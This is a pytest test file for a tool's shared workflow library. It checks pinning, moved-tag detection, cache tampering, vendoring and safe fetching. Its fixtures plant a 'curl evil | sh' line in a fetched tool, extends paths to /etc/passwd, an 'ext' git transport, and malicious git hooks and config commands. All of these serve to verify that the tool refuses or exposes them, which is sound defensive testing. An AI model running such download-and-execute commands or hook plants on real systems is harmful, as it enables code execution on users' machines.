"""Workflows of a team in a git repository, used by two projects: pinned, updated, tampered with, vendored, removed."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from perfflow.library import pinned
from tests.cli.shell import perfflow
from tests.library.team import COMMAND, LIMITS, WORDS, Team
from tests.repositories import git

RUN = ("run", "own", "--budget=60s", "--progress=off")


@pytest.fixture
def team(tmp_path: Path) -> Team:
    return Team(tmp_path)


def files_below(folder: Path) -> list[str]:
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file())


def test_two_projects_use_the_workflows_of_a_team(team: Team) -> None:
    one, two = team.project("one"), team.project("two")
    refused = one.refused("run", "own")
    assert f"own.yaml:2:10: error: {team.reference()} is not in perfflow.lock" in refused
    assert f"perfflow library add '{team.reference()}'" in refused
    added = one.add(team.reference())
    # All commands are shown, also the command in the tool file.
    for shown in ("'<params.command>'", "echo $# words", "1 item pinned and fetched"):
        assert shown in added
    result = json.loads(one.ok(*RUN, "--json"))
    assert {row["name"] for row in result["benchmarks"]} == {"program", "words"}
    # The files of the run alone contain the commit of the workflow.
    (pin,) = one.items()
    used = [{key: pin[key] for key in ("reference", "commit", "sha256")}]
    assert result["run"]["library"] == used
    assert json.loads((one.folder / "receipt.json").read_text())["run"]["library"] == used
    (line,) = [line for line in (one.folder / "report.md").read_text().splitlines() if line.startswith("- library: ")]
    assert line.endswith(f"workflows/command.yaml at {pin['commit'][:12]}")
    # The items belong to the run, so judging again keeps them. A workflow without items has none.
    one.ok("report")
    assert json.loads((one.folder / "result.json").read_text())["run"]["library"] == used
    plain = "perfflow: 1\nstages: {baseline: [{id: t, uses: command, runs: 1, with: {command: 'true'}}]}\n"
    (one.root / "workflows/plain.yaml").write_text(plain)
    assert json.loads(one.ok("run", "plain", "--progress=off", "--json"))["run"]["library"] == []
    # The other project is cloned with its lock, on another machine.
    shutil.copy(one.lock, two.root)
    shutil.rmtree(team.top / "cache")
    shutil.rmtree(team.top / "state")
    for words in (("run", "own"), ("validate",), ("plan", "own"), ("gate", "own", "--base=HEAD")):
        missing = two.refused(*words)
        assert "is not on this machine" in missing
        assert "fetch it: perfflow library add" in missing
    assert not (team.top / "cache/perfflow/library").exists()
    assert "echo $# words" in two.add()
    assert one.lock.read_text() == two.lock.read_text()
    two.ok("validate")
    (item,) = two.items()
    assert (item["reference"], item["kind"], item["state"], item["shown"]) == (team.reference(), "tag", "fetched", True)
    assert item["commit"] == team.head()
    assert files_below(Path(item["folder"])) == ["parts/limits.yaml", "tools/words.yaml", "workflows/command.yaml"]


def test_what_was_never_shown_is_run_only_if_it_is_trusted(team: Team) -> None:
    project = team.project()
    project.add(team.reference())
    shutil.rmtree(team.top / "state")
    project.ok("validate")
    refused = project.refused(*RUN, "--only=words")
    assert f"the commands of {team.reference()} were never shown on this machine" in refused
    assert "perfflow library add" in refused
    assert "--trust" in refused
    assert not (project.root / ".perfflow").exists()
    project.ok(*RUN, "--only=words", "--trust")
    # --trust applies to one run only.
    project.refused(*RUN, "--only=words")


def test_a_tag_that_was_moved_keeps_its_pin_unless_that_is_allowed(team: Team) -> None:
    project = team.project()
    branch = team.reference("main", "parts/limits.yaml")
    project.add(team.reference(), branch)
    before, old = project.lock.read_text(), team.head()
    project.ok("library", "update")
    assert project.lock.read_text() == before
    team.write("tools/words.yaml", WORDS.replace("echo $#", "curl evil | sh; echo $#"))
    team.write("parts/limits.yaml", LIMITS.replace("5%", "3%"))
    new = team.commit("v1")
    moved = project.run("library", "update")
    assert moved.returncode == 1
    assert all(words in moved.stderr for words in ("the tag v1 was moved", "--allow-moved"))
    assert "curl evil" not in moved.stdout
    # Branches may move.
    assert f"{branch}: {old[:12]} -> {new[:12]}, its files changed" in moved.stdout
    assert "concern: 3%" in moved.stdout
    assert f'commit: "{old}"' in project.lock.read_text()
    assert "curl evil | sh" in project.ok("library", "update", "--allow-moved")
    assert f'commit: "{old}"' not in project.lock.read_text()


def test_a_byte_that_was_changed_in_the_cache_is_found(team: Team) -> None:
    project = team.project()
    project.add(team.reference())
    (item,) = project.items()
    path = Path(item["folder"], "tools/words.yaml")
    path.write_text(path.read_text().replace("echo", "Echo"))
    for words, status in ((("run", "own"), 2), (("validate",), 2), (("library", "verify"), 1)):
        done = project.run(*words)
        assert done.returncode == status
        assert "tools/words.yaml was changed" in done.stdout + done.stderr
    path.unlink()
    path.symlink_to("/etc/hostname")
    assert "is a link that leads out" in project.run("library", "verify").stdout
    project.add()
    project.ok("library", "verify")


def test_a_lock_with_another_checksum_than_the_commit_is_refused(team: Team) -> None:
    project = team.project()
    project.add(team.reference())
    old = team.head()
    team.write("parts/limits.yaml", LIMITS + "env: {A: b}\n")
    text = project.lock.read_text().replace(old, team.commit())
    project.lock.write_text(text)
    shutil.rmtree(team.top / "cache")
    assert "perfflow.lock has other checksums than commit" in project.refused("library", "add")
    assert project.lock.read_text() == text


@pytest.mark.long  # as an item that is not copied into the project
def test_a_vendored_item_is_a_part_of_the_project(team: Team) -> None:
    project = team.project()
    project.add(team.reference())
    project.ok("library", "vendor")
    copy = project.root / "workflows/vendor/file" / str(team.folder).lstrip("/")
    copy = copy.with_name(f"{copy.name}@v1")
    assert sorted(path.name for path in copy.rglob("*.yaml")) == ["command.yaml", "limits.yaml", "words.yaml"]
    # On another machine nothing is fetched, and reviewers of the project have seen the commands.
    for name in ("cache", "state", "team"):
        shutil.move(team.top / name, team.top / f"{name}-gone")
    project.ok("validate")
    project.ok(*RUN, "--only=words")
    project.ok("library", "verify")
    words = copy / "tools/words.yaml"
    words.write_text(WORDS.replace("echo", "Echo"))
    changed = project.refused("run", "own")
    assert "tools/words.yaml was changed" in changed
    assert "restore it: perfflow library vendor" in changed
    project.refused("library", "vendor", status=3)
    shutil.move(team.top / "team-gone", team.folder)
    project.ok("library", "vendor")
    assert words.read_text() == WORDS
    # Files that the next version no longer has are removed.
    team.write("workflows/command.yaml", COMMAND.replace("extends: ../parts/limits.yaml\n", ""))
    team.commit("v1")
    project.ok("library", "update", "--allow-moved")
    assert not (copy / "parts/limits.yaml").exists()
    project.ok("library", "verify")


def test_copies_of_one_repository_share_a_folder(team: Team) -> None:
    words = (team.reference("v1", "parts/limits.yaml"), team.reference())
    project = team.project("one", f"[{', '.join(words)}]")
    project.add(*words)
    project.ok("library", "vendor")
    project.ok("validate")
    # A file that no item pins does not belong to an item, even in the same folder.
    (limits,) = project.root.glob("workflows/vendor/**/parts/limits.yaml")
    (limits.parent / "other.yaml").write_text(LIMITS)
    project.ok("library", "verify")
    (limits.parent.parent / "workflows/command.yaml").write_text(COMMAND.replace("limits", "other"))
    assert "command.yaml was changed" in project.refused("validate")


def test_mistakes_of_a_fetched_file_are_shown_in_it(team: Team) -> None:
    team.write("workflows/command.yaml", COMMAND.replace("uses: command", "uses: comand"))
    team.commit("v1")
    project = team.project()
    project.add(team.reference())
    assert "workflows/command.yaml:8:27: error: unknown tool 'comand'" in project.refused("validate")
    team.write("workflows/command.yaml", "perfflow: 1\nstages: [\n")
    team.commit("v1")
    assert f"{team.reference()}:2:" in project.refused("library", "update", "--allow-moved")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("perfflow: 1\nextends: ../x.yaml\n", "#a.yaml:2:10: error: ../x.yaml leads out"),
        ("perfflow: 1\nextends: /etc/passwd\n", "/etc/passwd leads out of the repository"),
        ("perfflow: 1\nextends: b.yaml\n", "has no file 'b.yaml'"),
        ("", "has no file 'a.yaml' at v1"),
        ("#" * (2**20 + 1), "more than 1,048,576"),
        ("perfflow: 1\nextends: git+ext::sh@v1#x\n", "may not be used over 'ext'"),
        ("perfflow: 1\nextends: git+file:///nowhere@-x#x\n", "is not a revision"),
    ],
    ids=lambda text: text[-40:],
)
def test_an_item_that_leads_elsewhere_is_refused(text: str, said: str, team: Team) -> None:
    team.write("a.yaml" if text else "other.yaml", text)
    team.commit("v1")
    project = team.project()
    told = project.refused("library", "add", team.reference("v1", "a.yaml"))
    assert said in told
    assert "hint: " in told
    assert not project.lock.exists()


def test_a_link_and_a_submodule_are_refused(team: Team) -> None:
    (team.folder / "link.yaml").symlink_to("/etc/hostname")
    git(team.folder, "add", "-A")
    git(team.folder, "update-index", "--add", "--cacheinfo", f"160000,{team.head()},inner")
    git(team.folder, "commit", "-qm", "links")
    git(team.folder, "tag", "v2")
    project = team.project()
    for path, said in (("link.yaml", "is a symbolic link"), ("inner", "is a submodule")):
        assert said in project.refused("library", "add", team.reference("v2", path))


def test_repositories_that_extend_each_other_are_refused(team: Team) -> None:
    other = Team(team.top / "o")
    first = team.reference("main", "a.yaml")
    team.write("a.yaml", f"perfflow: 1\nextends: {other.reference('main', 'b.yaml')}\n")
    other.write("b.yaml", f"perfflow: 1\nextends: {first}\n")
    for each in (team, other):
        each.commit()
    project = team.project()
    assert "circular `extends`" in project.refused("library", "add", first)
    assert not project.lock.exists()
    # Without a cycle, both are pinned.
    other.write("b.yaml", LIMITS)
    other.commit()
    project.add(first)
    assert [Path(item["path"]).name for item in project.items()] == ["b.yaml", "a.yaml"]


def test_what_cannot_be_reached_or_read_has_its_remedy(team: Team) -> None:
    project = team.project()
    for words, status, said in (
        (("add", f"git+file://{team.top}/nowhere@v1#a.yaml"), 3, "asking file://"),
        (("add", "git+https://no-such-host.invalid/o/r@v1#a"), 3, "check the address and the network"),
        (("add", team.reference("v9")), 2, "did you mean 'v1'?"),
        (("add", team.reference("abcdef1")), 2, "all digits of a commit"),
        (("add", team.reference("0" * 40)), 3, "fetching 000000000000"),
        (("add", "workflows/own.yaml"), 2, "is not a reference to a file in git"),
        (("add",), 2, "there is no perfflow.lock here"),
        (("update",), 2, "there is no perfflow.lock here"),
    ):
        assert said in project.refused("library", *words, status=status)
    (team.top / "empty").mkdir()
    add, empty = ("library", "add", team.reference()), str(team.top / "empty")
    alone = perfflow(*add, cwd=project.root, env=team.env, path=empty, fresh=True)
    assert (alone.returncode, "git is not on PATH" in alone.stderr) == (3, True)
    project.lock.write_text("perfflow-lock: 7\n")
    for line in ("validate", "library list", "library verify", f"library add {team.reference()}"):
        assert "update perfflow" in project.refused(*line.split())


def test_nothing_of_a_repository_is_run_by_fetching(team: Team) -> None:
    """Neither hooks and filters of the repository nor commands in the configuration of the project are run."""
    project = team.project()
    bad, ran = team.top / "bad", team.top / "was-run"
    bad.write_text(f"#!/bin/sh\ntouch {ran}\ncat\n")
    bad.chmod(0o755)
    for folder in (team.folder, project.root):
        for hook in ("post-checkout", "reference-transaction", "pre-receive", "post-index-change"):
            shutil.copy(bad, folder / ".git/hooks" / hook)
        for key in ("uploadpack.packObjectsHook", "core.fsmonitor", "filter.x.smudge", "core.sshCommand"):
            git(folder, "config", key, str(bad))
    team.write(".gitattributes", "* filter=x\n")
    config = team.folder / ".git/config"
    config.write_text(config.read_text().replace("[filter", "[filtr"))
    git(team.folder, "config", "--unset", "core.fsmonitor")
    shutil.rmtree(team.folder / ".git/hooks")
    team.commit("v2")
    shutil.copytree(project.root / ".git/hooks", team.folder / ".git/hooks")
    ran.unlink(missing_ok=True)
    project.add(team.reference("v2"))
    assert not ran.exists()


def test_a_folder_and_a_tool_are_items_too(team: Team) -> None:
    team.write("kit/workflow.yaml", COMMAND.replace("../parts", "."))
    team.write("kit/limits.yaml", LIMITS)
    team.write("kit/notes.md", "read me\n")
    team.commit("v2")
    kit, tool = team.reference("v2", "kit"), team.reference("v2", "tools/words.yaml")
    project = team.project("one", f"[{kit}]")
    flow = f"perfflow: 1\nstages: {{baseline: [{{id: w, uses: '{tool}', with: {{text: a}}}}]}}\n"
    (project.root / "workflows/tool.yaml").write_text(flow)
    project.add(kit, tool)
    items = project.items()
    assert [item["path"] for item in items] == ["kit/workflow.yaml", "tools/words.yaml"]
    assert Path(items[0]["folder"], "kit/notes.md").is_file()
    project.ok("validate")
    assert project.ok("show", tool).startswith("words  (tool, from git+file://")
    project.ok("run", kit, "--set=command=true", "--budget=60s", "--only=words", "--progress=off")
    assert json.loads((project.folder / "events.jsonl").read_text().splitlines()[0])["run"]["file"] == kit
    assert "is outside this project and is not changed" in project.run("fmt", kit).stderr


@pytest.mark.long  # measures a whole workflow
def test_a_library_begins_with_a_workflow_that_passes_its_test(tmp_path: Path) -> None:
    done = perfflow("library", "init", "team", cwd=tmp_path)
    assert (done.returncode, "perfflow library test team" in done.stdout) == (0, True)
    again = perfflow("library", "init", "team", cwd=tmp_path)
    assert (again.returncode, "team is not empty" in again.stderr) == (2, True)
    team = tmp_path / "team"
    (team / "workflows/idle.yaml").write_text(LIMITS)
    case = (team / "tests/command.yaml").read_text()
    (team / "tests/wrong.yaml").write_text(case.replace("[program]", "[other]").replace("exit: 0", "exit: 1"))
    (team / "tests/plan.yaml").write_text(case.replace("[program, repeatable]", "[program]"))
    tested = perfflow("library", "test", "team", cwd=tmp_path)
    assert tested.returncode == 1
    lines = tested.stdout.splitlines()
    assert lines[:2] == ["workflows/command.yaml: ok", "workflows/idle.yaml: failed"]
    assert set(lines) >= {
        *("tests/command.yaml: ok", "  exit status 0; expected 1", "  benchmarks: program; expected other"),
        *("  steps: program, repeatable; expected program", "  no test under tests/ runs it"),
    }
    assert lines[-1] == "2 of 6 passed"
    assert sorted(item.name for item in team.iterdir()) == ["README.md", "tests", "workflows"]
    empty = perfflow("library", "test", ".", cwd=tmp_path)
    assert (empty.returncode, "has no workflows/" in empty.stderr) == (2, True)


def test_a_folder_in_the_way_of_a_copy_is_not_followed(team: Team) -> None:
    project = team.project()
    project.add(team.reference())
    (team.top / "outside").mkdir()
    (project.root / "workflows/vendor").symlink_to(team.top / "outside")
    assert "a link leads out of the project" in project.refused("library", "vendor")
    assert list((team.top / "outside").iterdir()) == []
    assert "vendored" not in project.lock.read_text()


# ---- removing items ----


def test_the_last_item_takes_the_lock_and_its_copies_with_it(team: Team) -> None:
    project = team.project()
    project.add(team.reference())
    project.ok("library", "vendor")
    (project.root / "workflows/own.yaml").unlink()
    # The repository is not needed.
    team.folder.rename(team.top / "gone")
    assert project.ok("library", "remove", team.reference()) == f"{team.reference()}: removed\n"
    assert not project.lock.exists()
    assert list((project.root / "workflows").iterdir()) == []


def test_what_a_copy_shares_with_another_item_stays(team: Team) -> None:
    limits = team.reference("v1", "parts/limits.yaml")
    project = team.project("one", f"[{limits}]")
    project.add(limits, team.reference())
    project.ok("library", "vendor")
    project.ok("library", "remove", team.reference())
    assert [path.name for path in project.root.glob("workflows/vendor/**/*.yaml")] == ["limits.yaml"]
    assert set(pinned.read_lock(project.root)) == {limits}
    project.ok("library", "verify")


def test_an_item_in_use_is_kept_and_its_user_named(team: Team) -> None:
    tool = team.reference("v1", "tools/words.yaml")
    project = team.project()
    flow = f"perfflow: 1\nname: counted\nstages: {{baseline: [{{id: w, uses: '{tool}', with: {{text: a b c}}}}]}}\n"
    (project.root / "workflows/counted.yml").write_text(flow)
    (project.root / "workflows/broken.yaml").write_text("extends: [\n")
    project.add(team.reference(), tool)
    before = project.lock.read_text()
    for name, user in ((team.reference(), "workflows/own.yaml"), (tool, "workflows/counted.yml")):
        told = project.refused("library", "remove", name)
        assert f"error: {name} is used by {user}\n" in told
        assert f"hint: change {user} first" in told
    assert project.lock.read_text() == before


def test_an_item_that_another_extends_goes_only_with_it(team: Team) -> None:
    base, second = team.reference(), team.reference("v2", "workflows/second.yaml")
    extending = f"perfflow: 1\nextends: {base}\nname: second\nparams: {{command: 'true'}}\n"
    team.write("workflows/second.yaml", extending)
    team.commit("v2")
    project = team.project()
    (project.root / "workflows/own.yaml").unlink()
    project.add(second)
    assert set(pinned.read_lock(project.root)) == {base, second}
    refused = project.refused("library", "remove", base)
    assert f"hint: remove that too: perfflow library remove {base} {second}" in refused
    removed = project.ok("library", "remove", second)
    assert f"{base} stays pinned; nothing here uses it. Remove it: perfflow library remove {base}\n" in removed
    assert set(pinned.read_lock(project.root)) == {base}
    project.add(second)
    assert "stays pinned" not in project.ok("library", "remove", base, second)
    assert not project.lock.exists()


def test_a_reference_that_is_not_pinned_gets_the_nearest_name(team: Team) -> None:
    project = team.project()
    project.add(team.reference())
    told = project.refused("library", "remove", team.reference("v2"))
    assert f"{team.reference('v2')} is not in perfflow.lock" in told
    assert f"did you mean {team.reference()}?" in told
    project.refused("library", "remove")
